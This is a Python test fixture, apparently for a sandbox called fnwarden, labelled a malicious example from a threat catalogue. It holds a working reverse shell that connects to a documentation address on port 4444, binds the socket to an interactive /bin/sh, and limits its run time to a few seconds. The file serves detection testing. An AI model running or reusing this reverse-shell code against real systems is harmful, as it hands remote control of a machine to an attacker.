"""MALICIOUS example (threat catalogue §1c technique 15): a classic Python reverse shell.

It connects to 203.0.113.5:4444 (a documentation address that fnwarden's sandbox makes local to
its own network namespace), forks, duplicates the socket onto the child's stdin, stdout and
stderr and executes `/bin/sh -i` there. The shell is bounded: an alarm set before exec ends it
after 3 s, and the handler kills it if it is still alive after 3.5 s. The handler returns what
happened; the sandbox must detect the behaviour.
"""
import os
import signal
import socket
import time

C2 = ("203.0.113.5", 4444)
SHELL_SECONDS = 3


def handler(event, context):
    report = {"c2": "%s:%d" % C2}
    try:
        sock = socket.create_connection(C2, timeout=3)
    except OSError as exc:
        report["connect"] = repr(exc)
        return report
    report["connect"] = "ok"
    sock.setblocking(True)  # the shell must see an ordinary blocking descriptor
    pid = os.fork()
    if pid == 0:
        try:
            signal.signal(signal.SIGPIPE, signal.SIG_DFL)
            signal.alarm(SHELL_SECONDS)  # survives exec: SIGALRM ends the shell
            fd = sock.fileno()
            for target in (0, 1, 2):
                os.dup2(fd, target)
            os.execv("/bin/sh", ["/bin/sh", "-i"])
        finally:
            os._exit(127)
    sock.close()
    deadline = time.monotonic() + SHELL_SECONDS + 0.5
    status = None
    while time.monotonic() < deadline:
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            break
        time.sleep(0.05)
    else:
        os.kill(pid, signal.SIGKILL)
        _, status = os.waitpid(pid, 0)
    report["shell_pid"] = pid
    if os.WIFSIGNALED(status):
        report["shell_end"] = "signal %d" % os.WTERMSIG(status)
    else:
        report["shell_end"] = "exit %d" % os.WEXITSTATUS(status)
    return report
